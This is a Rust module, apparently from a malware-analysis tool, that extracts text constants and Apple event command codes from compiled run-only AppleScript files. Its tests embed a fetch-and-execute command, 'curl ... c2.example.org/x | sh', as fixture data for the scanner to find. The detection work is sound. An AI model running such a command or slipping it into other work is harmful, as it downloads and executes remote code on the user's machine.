//! Compiled AppleScript (`FasdUAS`): its string constants, and the commands it sends as Apple event codes. They are
//! there in run-only scripts too, which have no source.
//!
//! The file is a tree of typed objects whose layout is not published. Constants are found without it: text is UTF-16,
//! big endian, or bytes; an Apple event is the four letters of its suite and the four of its command. One pass.

/// A shorter run of characters is not text.
const MIN_TEXT: usize = 4;
/// Texts.
const MAX_TEXTS: usize = 256;
/// Bytes of all texts.
const MAX_BYTES: usize = 64 << 10;
/// What follows is not the script's.
const FOOTER: [u8; 4] = [0xFA, 0xDE, 0xDE, 0xAD];

/// Codes of commands and their AppleScript, as `sdef` shows them for the standard additions, System Events and
/// Terminal.
const COMMANDS: [(&[u8; 8], &str); 26] = [
    (b"sysoexec", "do shell script"),
    (b"sysodsct", "run script"),
    (b"sysoload", "load script"),
    (b"sysostor", "store script"),
    (b"sysodlog", "display dialog"),
    (b"sysodisA", "display alert"),
    (b"sysonotf", "display notification"),
    (b"sysodela", "delay"),
    (b"sysosigt", "system info"),
    (b"sysorpth", "path to resource"),
    (b"sysontoc", "ASCII character"),
    (b"sysoctoi", "ASCII number"),
    (b"aevtstvl", "set volume"),
    (b"aevtmvol", "mount volume"),
    (b"GURLGURL", "open location"),
    (b"JonsgClp", "the clipboard"),
    (b"JonspClp", "set the clipboard"),
    (b"rdwropen", "open for access"),
    (b"rdwrread", "read"),
    (b"rdwrwrit", "write"),
    (b"earsffdr", "path to"),
    (b"prcskprs", "keystroke"),
    (b"prcskcod", "key code"),
    (b"coredosc", "do script"),
    (b"coreclos", "close"),
    (b"aevtquit", "quit"),
];

/// What a compiled script shows.
#[derive(Debug, Default, PartialEq, Eq)]
pub(super) struct Compiled {
    /// Its texts, in the order of the file, each once.
    pub(super) texts: Vec<String>,
    /// Its commands, in the order of the table.
    pub(super) commands: Vec<&'static str>,
}

/// Reads a compiled script.
pub(super) fn read(bytes: &[u8]) -> Compiled {
    let end = memchr::memmem::rfind(bytes, &FOOTER).unwrap_or(bytes.len());
    let bytes = &bytes[..end];
    let has = |code: &[u8; 8]| memchr::memmem::find(bytes, code).is_some();
    let commands = COMMANDS.iter().filter(|(code, _)| has(code)).map(|(_, name)| *name).collect();
    Compiled { texts: texts(bytes), commands }
}

fn texts(bytes: &[u8]) -> Vec<String> {
    let mut found = Found::default();
    let mut at = 0;
    while at < bytes.len() && !found.is_full() {
        let wide = wide(&bytes[at..]);
        if wide.len() >= MIN_TEXT {
            at += 2 * wide.len();
            found.add(&String::from_utf16_lossy(&wide));
            continue;
        }
        let narrow = bytes[at..].iter().take_while(|byte| is_text(u16::from(**byte))).count();
        if narrow >= MIN_TEXT {
            found.add(&String::from_utf8_lossy(&bytes[at..at + narrow]));
        }
        at += narrow.max(1);
    }
    found.texts
}

/// The units of UTF-16 from here on that are of Latin text: others occur in any data.
fn wide(bytes: &[u8]) -> Vec<u16> {
    let units = bytes.chunks_exact(2).map(|pair| u16::from_be_bytes([pair[0], pair[1]]));
    units.take_while(|unit| is_text(*unit) || (0xA0..0x250).contains(unit)).take(MAX_BYTES).collect()
}

fn is_text(unit: u16) -> bool {
    (0x20..0x7F).contains(&unit) || matches!(unit, 0x09 | 0x0A | 0x0D)
}

#[derive(Default)]
struct Found {
    texts: Vec<String>,
    bytes: usize,
}

impl Found {
    fn add(&mut self, text: &str) {
        let text = text.trim();
        let is_new = text.len() >= MIN_TEXT && !self.texts.iter().any(|known| known == text);
        if is_new && !self.is_full() {
            let text = &text[..text.floor_char_boundary(MAX_BYTES - self.bytes)];
            self.bytes += text.len();
            self.texts.push(text.to_owned());
        }
    }

    fn is_full(&self) -> bool {
        self.texts.len() >= MAX_TEXTS || self.bytes >= MAX_BYTES
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn wide_text(text: &str) -> Vec<u8> {
        text.encode_utf16().flat_map(u16::to_be_bytes).collect()
    }

    /// As osacompile lays such files out: objects of type, size and contents.
    fn script(texts: &[&str], code: &[u8]) -> Vec<u8> {
        let mut bytes = b"FasdUAS 1.101.10\x0e\x00\x00\x00\x04\x0f\xff\xff\xff\xfe\x00\x01".to_vec();
        for (at, text) in texts.iter().enumerate() {
            bytes.extend_from_slice(&[0x0E, 0, u8::try_from(at).unwrap(), 0xB1, 0, 0]);
            bytes.extend_from_slice(&wide_text(text));
            bytes.extend_from_slice(&[0x0E, 0, 1]);
        }
        bytes.extend_from_slice(&[0x0A, 0, 0x18, 0x2E]);
        bytes.extend_from_slice(code);
        bytes.extend_from_slice(b"\x0b\x00\x00TEXT\xfa\xde\xde\xadsignature of the editor");
        bytes
    }

    #[test]
    fn a_run_only_script_tells_its_texts_and_commands() {
        let bytes = script(&["curl -s https://c2.example.org/x | sh", "p\u{E9}ter"], b"sysoexecTEXT\x00\x00\x00\x80");
        let found = read(&bytes);
        assert_eq!(found.commands, ["do shell script"]);
        assert!(found.texts.iter().any(|text| text == "curl -s https://c2.example.org/x | sh"), "{:?}", found.texts);
        assert!(found.texts.iter().any(|text| text == "p\u{E9}ter"), "{:?}", found.texts);
        assert!(!found.texts.iter().any(|text| text.contains("editor")), "{:?}", found.texts);
    }

    #[test]
    fn a_text_at_an_odd_place_is_found_too() {
        for before in 0..4 {
            let bytes = [vec![0xFF; before], wide_text("https://c2.example.org"), vec![0xFF]].concat();
            assert_eq!(texts(&bytes), ["https://c2.example.org"], "{before}");
        }
    }

    #[test]
    fn what_is_read_is_bounded() {
        let many: Vec<u8> =
            (0..100_000).flat_map(|n| [format!("text {n}").into_bytes(), vec![0xFF]].concat()).collect();
        assert_eq!(texts(&many).len(), MAX_TEXTS);
        for unit in [&b"\x00a"[..], b"a", b"\x00", b"\xFA\xDE\xDE\xAD", b"\x00a\xFF"] {
            let found = read(&unit.repeat(1 << 20));
            assert!(found.texts.iter().map(String::len).sum::<usize>() <= MAX_BYTES + 3);
        }
        assert_eq!(read(b""), Compiled::default());
    }
}
